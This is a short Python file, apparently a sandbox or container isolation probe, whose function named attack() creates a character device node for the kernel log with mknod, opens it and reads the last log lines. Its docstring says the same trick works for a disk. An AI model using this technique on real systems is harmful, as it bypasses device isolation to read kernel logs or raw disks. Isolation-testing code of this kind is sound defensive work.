"""Make a device node and open it: here the kernel's log, with a disk it would be the same."""

import os
import stat
import tempfile

_KMSG = os.makedev(1, 11)


def attack():
    node = os.path.join(tempfile.mkdtemp(), "device")
    os.mknod(node, stat.S_IFCHR | 0o600, _KMSG)
    device = os.open(node, os.O_RDONLY | os.O_NONBLOCK)
    os.unlink(node)
    lines = []
    while True:
        try:
            lines.append(os.read(device, 8192).decode("utf-8", "replace"))
        except BlockingIOError:
            return lines[-100:]
        except BrokenPipeError:
            continue  # older lines were overwritten meanwhile
